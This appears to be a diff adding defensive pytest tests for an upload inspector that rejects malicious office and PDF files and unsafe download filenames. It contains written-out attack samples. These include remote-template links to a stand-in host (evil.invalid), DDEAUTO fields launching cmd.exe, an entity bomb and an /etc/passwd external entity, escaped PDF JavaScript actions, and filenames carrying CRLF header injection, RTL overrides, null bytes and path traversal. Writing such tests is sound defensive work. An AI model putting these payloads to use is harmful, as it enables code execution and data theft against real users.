@@ -1,0 +1,121 @@
+"""Tricks in files: what an office program would fetch or start is found however it is written."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from urllib.parse import unquote
+
+import pytest
+
+from gongkai.desk import files
+from gongkai.desk.actions import Refused
+from gongkai.records import actions
+
+TYPES = b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
+HEAD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def docx(body: str = "<w:t>字</w:t>", **parts: bytes) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", TYPES)
+        archive.writestr("word/document.xml", f"<w:document {W}><w:body>{body}</w:body></w:document>")
+        for name, data in parts.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def relation(kind: str, mode: str = 'TargetMode="External"', quote: str = '"') -> str:
+    return f"{HEAD}<Relationship Id='r1' Type={quote}{kind}{quote} Target='http://evil.invalid/t.dotm' {mode}/></Relationships>"
+
+
+TEMPLATES = {
+    "plain": relation(TYPE + "attachedTemplate").encode(),
+    "other quotes": relation(TYPE + "attachedTemplate", "TargetMode='External'", "'").encode(),
+    "entities": relation(TYPE + "attached&#84;emplate", 'TargetMode="Extern&#97;l"').encode(),
+    "utf-16": relation(TYPE + "attachedTemplate").encode("utf-16"),
+    "strict names": relation("http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate").encode(),
+    "a picture from elsewhere": relation(TYPE + "image").encode(),
+    "prefixed": relation(TYPE + "attachedTemplate").replace("xmlns=", "xmlns:x=").replace("<R", "<x:R").replace("</R", "</x:R").encode(),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("link", TEMPLATES.values(), ids=TEMPLATES.keys())
+@pytest.mark.parametrize("name", ["word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS"])
+def test_nothing_is_fetched_from_elsewhere(link, name):
+    with pytest.raises(Refused) as refused:
+        files.inspect(docx(**{name: link}), "模板.docx")
+    assert refused.value.has("external")
+
+
+def test_a_link_to_click_is_kept():
+    files.inspect(docx(**{"word/_rels/document.xml.rels": relation(TYPE + "hyperlink").encode()}), "链接.docx")
+
+
+FIELDS = {
+    "one run": "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>",
+    "cut into runs": "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:p>",
+    "small letters": "<w:p><w:instrText> ddeauto cmd</w:instrText></w:p>",
+    "simple": '<w:p><w:fldSimple w:instr="DDE excel"/></w:p>',
+}
+
+
+@pytest.mark.parametrize("body", FIELDS.values(), ids=FIELDS.keys())
+def test_no_field_starts_a_program(body):
+    with pytest.raises(Refused) as refused:
+        files.inspect(docx(body), "字段.docx")
+    assert refused.value.has("external")
+
+
+def test_words_about_dde_are_words():
+    files.inspect(docx("<w:p><w:r><w:t>停用DDE功能的通知</w:t></w:r></w:p>"), "通知.docx")
+
+
+def test_entities_are_not_expanded():
+    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>' + relation("&b;")
+    files.inspect(docx(**{"word/_rels/document.xml.rels": bomb.encode()}), "实体.docx")
+    outside = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>{HEAD}&a;</Relationships>'
+    files.inspect(docx(**{"word/_rels/document.xml.rels": outside.encode()}), "外部实体.docx")
+
+
+@pytest.mark.parametrize(
+    "name", [b"/JavaScript", b"/Java#53cript", b"/#4aavaScript", b"/L#61unch", b"/Embedded#46iles"]
+)
+def test_a_pdf_hides_no_program_behind_escapes(name):
+    with pytest.raises(Refused):
+        files.inspect(b"%PDF-1.7\n1 0 obj<</OpenAction<</S" + name + b"/JS(app.alert(1))>>>>endobj", "公告.pdf")
+
+
+HIDDEN = [
+    "公告\r\nSet-Cookie: a=b.pdf",
+    "公告\u202efdp.exe.pdf",
+    "a\0.pdf",
+    "../../公告.pdf",
+    '公告".pdf',
+    "C:\\公告.pdf",
+]
+
+
+@pytest.mark.parametrize("name", HIDDEN)
+def test_no_name_writes_a_header_or_a_path(house, client, name, settings, tmp_path):
+    settings.HOME = tmp_path
+    stored = files.keep("附件一张，列明各项标准。".encode(), "公告.txt")
+    record = house.draft()
+    one = actions.attach(record, stored, name, revision=record.revision, by=house.drafter)
+    record.refresh_from_db()
+    house.pass_all(record)
+    response = client.get(f"/records/{record.pk}/files/{one.pk}/")
+    header = response["Content-Disposition"]
+    assert response.status_code == 200 and header.startswith("attachment")
+    assert not set("\r\n\0/\\\u202e") & set(unquote(header).replace('\\"', ""))
+    assert "Set-Cookie" not in response
+
+
+@pytest.mark.parametrize("name", HIDDEN[:3])
+def test_an_uploaded_file_with_a_hidden_sign_in_its_name_is_sent_back(name):
+    with pytest.raises(Refused) as refused:
+        files.inspect(b"%PDF-1.7\n", name)
+    assert refused.value.has("name-hidden-signs")
